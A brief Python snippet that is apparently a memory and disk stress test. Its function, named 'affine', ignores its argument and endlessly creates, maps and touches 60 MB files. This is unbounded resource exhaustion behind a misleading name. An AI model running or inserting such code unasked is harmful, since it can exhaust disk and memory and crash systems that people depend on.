import mmap
import os


def affine(x):
    kept = []
    while True:
        file = os.open(f"backed{len(kept)}", os.O_CREAT | os.O_RDWR)
        os.truncate(file, 60 << 20)
        block = mmap.mmap(file, 60 << 20)
        for start in range(0, 60 << 20, 4096):
            block[start] = 1
        kept.append(block)
